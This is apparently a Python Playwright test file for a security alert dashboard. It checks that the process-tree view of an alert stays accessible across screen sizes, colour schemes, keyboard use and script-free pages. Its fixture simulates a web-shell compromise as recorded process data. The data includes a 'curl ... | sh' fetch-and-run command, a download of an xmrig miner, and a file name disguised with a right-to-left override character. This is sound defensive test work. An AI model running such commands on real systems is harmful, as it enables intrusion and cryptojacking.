"""The process tree of an alert: readable on every screen, by keyboard, without scripts, in both colour schemes."""

from __future__ import annotations

import datetime as dt
import json
import uuid
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from drift.alerts.actions.store_execs import store_execs
from drift.alerts.models import Alert
from tests.browser.test_alerts_narrow import SIDEWAYS, SIZES
from tests.browser.test_alerts_page import estate, send, shot, violations
from tests.unit.drift.alerts.conftest import Estate, now
from tests.unit.drift.alerts.test_stored_execs import an_exec, report

__all__ = ["estate"]
pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
Open = Callable[..., Page]
WIDE = {"width": 1440, "height": 900}


@pytest.fixture
def attacked(estate: Estate) -> Alert:
    """A web shell: it downloads a miner, runs it, and goes on; a chain of twenty processes, and probes beside it."""
    at = now() - dt.timedelta(minutes=3)

    def ran(second: float, pid: int, argv: list[str], *above: int, **more: Any) -> dict[str, Any]:
        when = at + dt.timedelta(seconds=second)
        started = (when - dt.timedelta(seconds=0.2)).isoformat()
        return an_exec(
            at=when.isoformat(),
            pid=pid,
            argv=argv,
            path=argv[0],
            started_at=started,
            **{"ancestors": [{"pid": each} for each in above], "uid": 33, **more},
        )

    miner = uuid.uuid4()
    written = {"name": "curl", "pid": 101, "at": (at + dt.timedelta(seconds=1)).isoformat()}
    event: dict[str, Any] = {"event_id": str(miner), "at": at + dt.timedelta(seconds=3), "process__written_by": written}
    send(estate, "/var/www/html/xmrig", **event)
    chain = [ran(4 + n, 200 + n, ["sh", "-c", f"step {n}"], 199 + n if n else 3256138) for n in range(20)]
    execs = [
        ran(0, 100, ["sh", "-c", "curl -fsSL https://example.net/x | sh"], 9, parent_name="php-fpm"),
        ran(1, 101, ["curl", "-o", "/var/www/html/xmrig", "https://example.net/" + "a" * 400], 100),
        ran(2, 102, ["chmod", "+x", "/tmp/\u202egnp.exe\n"], 100),
        ran(3, 3256138, ["./xmrig", "-o", "pool"], 100, exec_id=str(miner)),
        *chain,
        *(ran(number, 900 + number, ["/probe"], 800) for number in range(3)),
    ]
    sensor = estate.sensors[0]
    for start in range(0, len(execs), 16):
        sent = report(*execs[start : start + 16], container_id="c" * 64, missed=0 if start else 5)
        assert store_execs(sensor, [json.dumps(sent).encode()]).dropped == 0
    return Alert.objects.get()


@pytest.mark.parametrize("colours", ["light", "dark"])
@pytest.mark.parametrize("size", [WIDE, *SIZES.values()], ids=["wide", *SIZES])
def test_the_tree_fits_every_screen_and_axe_finds_nothing(
    attacked: Alert, open_as: Open, operator: Any, size: dict[str, int], colours: str
) -> None:
    page = open_as(operator, f"/alerts/{attacked.pk}/?tab=tree", viewport=size, color_scheme=colours)
    page.get_by_text("Other executions in the container").click()
    expect(page.get_by_text("/probe").first).to_be_visible()
    page.locator("#tree").scroll_into_view_if_needed()
    shot(page, f"tree-{size['width']}-{colours}")
    assert [*page.evaluate(SIDEWAYS), *violations(page)] == []


def test_the_tree_is_reached_and_opened_by_keyboard(attacked: Alert, open_as: Open, operator: Any) -> None:
    page = open_as(operator, f"/alerts/{attacked.pk}/")
    page.keyboard.press("4")
    expect(page.locator(".process-tree .own")).to_contain_text("./xmrig -o pool")
    fold = page.locator("summary", has_text="Other executions")
    for _ in range(60):
        page.keyboard.press("Tab")
        if fold.evaluate("each => each === document.activeElement"):
            break
    page.keyboard.press("Enter")
    expect(page.get_by_text("/probe").first).to_be_visible()


def test_the_tree_is_there_without_scripts(attacked: Alert, open_as: Open, operator: Any) -> None:
    page = open_as(operator, f"/alerts/{attacked.pk}/", java_script_enabled=False)
    page.get_by_role("navigation", name="Alert tabs").get_by_role("link", name="Process tree").click()
    lines = page.get_by_role("list", name="Process tree").get_by_role("listitem")
    expect(lines.first).to_contain_text("curl -fsSL")
    expect(page.locator(".process-tree .own")).to_contain_text("written by curl 2 s earlier")


def test_hidden_characters_are_escapes_and_the_printable_report_has_the_tree(
    attacked: Alert, open_as: Open, operator: Any
) -> None:
    page = open_as(operator, f"/alerts/{attacked.pk}/report/", viewport={"width": 390, "height": 844})
    expect(page.locator(".process-tree")).to_contain_text("/tmp/\\u202egnp.exe\\n")
    assert [*page.evaluate(SIDEWAYS), *violations(page)] == []
    shot(page, "tree-report")
